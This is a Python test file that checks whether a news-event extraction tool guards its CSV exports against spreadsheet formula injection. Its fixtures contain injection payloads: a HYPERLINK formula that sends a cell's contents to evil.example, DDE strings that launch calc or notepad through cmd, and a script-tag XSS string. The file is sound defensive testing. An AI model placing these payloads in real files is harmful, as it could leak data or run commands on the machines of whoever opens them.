"""Downloads: no cell of events.csv or mentions.csv can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest

from control_changes.cli import main
from control_changes.export import events_geojson, events_geojson_text, guard_cell, to_csv_bytes

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

# Each hostile sentence reports a capture of its own place, so it becomes that event's evidence.
HOSTILE = {
    "=evil.txt": '=HYPERLINK("http://evil.example/?d="&A1,"Taliban fighters captured Kunduz '
                 'on Sunday.")',
    "@sum.txt": "@SUM(1+1)*cmd|' /C calc'!A0 The Taliban seized Ghazni on Thursday, "
                "officials said.",
    "+plus.txt": "+1+cmd|' /C notepad'!A0 Insurgents overran Aybak on Monday, officials said.",
    "-minus.txt": "-2+3+cmd|' /C calc'!A0 Taliban fighters captured Taloqan on Sunday.",
    "tab.txt": "Taliban fighters captured Sar-e Pol on Sunday, officials said.",
}


@pytest.mark.parametrize("start", DANGEROUS)
def test_text_cell_starting_like_a_formula_is_prefixed_with_an_apostrophe(start):
    cell = start + "HYPERLINK(\"http://x\")"
    assert guard_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["  =1+1", "\u00a0@SUM(A1)"])
def test_leading_spaces_do_not_hide_a_formula(cell):
    assert guard_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Kunduz", "", "Taliban said =", "a-b", "'=already"])
def test_ordinary_text_is_left_alone(cell):
    assert guard_cell(cell) == cell


@pytest.mark.parametrize("value", [-1, -3.5, 0, None, True])
def test_numbers_and_missing_values_are_left_alone(value):
    assert guard_cell(value) is value


def test_to_csv_bytes_guards_text_columns_and_keeps_numbers():
    frame = pd.DataFrame({"evidence": ["=1+1", "fine"], "count": [-1, 2],
                          "lat": [-33.5, 34.1]})
    rows = list(csv.DictReader(io.StringIO(to_csv_bytes(frame).decode("utf-8"))))
    assert [r["evidence"] for r in rows] == ["'=1+1", "fine"]
    assert [r["count"] for r in rows] == ["-1", "2"]
    assert [r["lat"] for r in rows] == ["-33.5", "34.1"]


def assert_no_formula_cells(path: Path) -> list[dict]:
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert rows
    for row in rows:
        for col, cell in row.items():
            try:
                float(cell)
                continue  # a number, written by us
            except ValueError:
                pass
            assert not cell.lstrip(" \u00a0").startswith(DANGEROUS), (path.name, col, cell)
    return rows


def test_build_with_hostile_articles_writes_csvs_no_spreadsheet_can_execute(tmp_path, capsys):
    articles, out = tmp_path / "articles", tmp_path / "out"
    articles.mkdir()
    for name, text in HOSTILE.items():
        (articles / name).write_text(text, encoding="utf-8")
    (articles / "manifest.csv").write_text(
        "file,published,outlet,title\n"
        '=evil.txt,2021-08-08,"=2+5+cmd|\' /C calc\'!A0","@title"\n'
        "tab.txt,2021-08-08,\"\tTabbed outlet\",-title\n", encoding="utf-8")
    assert main(["build", "--articles", str(articles), "--out", str(out)]) == 0
    assert "wrote" in capsys.readouterr().out

    events = assert_no_formula_cells(out / "events.csv")
    mentions = assert_no_formula_cells(out / "mentions.csv")
    evidence = {r["evidence"] for r in events}
    # The hostile text is still there, shown as text.
    assert "'" + HOSTILE["=evil.txt"] in evidence
    assert "'" + HOSTILE["@sum.txt"] in evidence
    assert "'" + HOSTILE["+plus.txt"] in evidence
    assert "'" + HOSTILE["-minus.txt"] in evidence
    assert {"'=evil.txt", "'@sum.txt", "'+plus.txt", "'-minus.txt"} <= {r["file"]
                                                                        for r in mentions}
    assert any(r["outlet"].startswith("'=2+5") for r in mentions)
    assert any(r["outlets"].startswith("'=2+5") for r in events)
    assert {"'@title", "'-title"} <= {r["title"] for r in mentions}

    geo = json.loads((out / "events.geojson").read_text(encoding="utf-8"))
    assert HOSTILE["=evil.txt"] in {f["properties"]["evidence"] for f in geo["features"]}


def test_geojson_keeps_markup_as_json_string_values():
    frame = pd.DataFrame({"place": ["<script>alert(1)</script>"], "latitude": [36.7],
                          "longitude": [68.9], "evidence": ["</script><b>x</b>"]})
    text = json.dumps(events_geojson(frame))
    assert json.loads(text)["features"][0]["properties"]["place"] == "<script>alert(1)</script>"


def test_build_in_batches_writes_the_same_files_as_in_one(tmp_path, capsys):
    seeds = Path(__file__).resolve().parents[1] / "seeds"
    assert main(["build", "--articles", str(seeds), "--out", str(tmp_path / "one")]) == 0
    assert main(["build", "--articles", str(seeds), "--out", str(tmp_path / "three"),
                 "--batch", "2"]) == 0
    assert capsys.readouterr().out.count("\nadded ") >= 2
    for name in ("events.csv", "mentions.csv", "events.geojson"):
        assert (tmp_path / "one" / name).read_bytes() == (tmp_path / "three" / name).read_bytes()


def test_geojson_reads_back_with_geopandas_without_unplaced_events(tmp_path):
    frame = pd.DataFrame({"place": ["Kunduz", "Nowhere", "Herāt"], "latitude": [36.73, None, 34.35],
                          "longitude": [68.86, 62.2, 62.2], "n_articles": [2, 1, float("nan")]})
    (tmp_path / "events.geojson").write_text(events_geojson_text(frame), encoding="utf-8")
    back = gpd.read_file(tmp_path / "events.geojson")
    assert list(back["place"]) == ["Kunduz", "Herāt"]
    assert [(p.x, p.y) for p in back.geometry] == [(68.86, 36.73), (62.2, 34.35)]
    assert events_geojson(frame)["features"][1]["properties"]["n_articles"] is None
    assert events_geojson(frame.iloc[0:0])["features"] == []
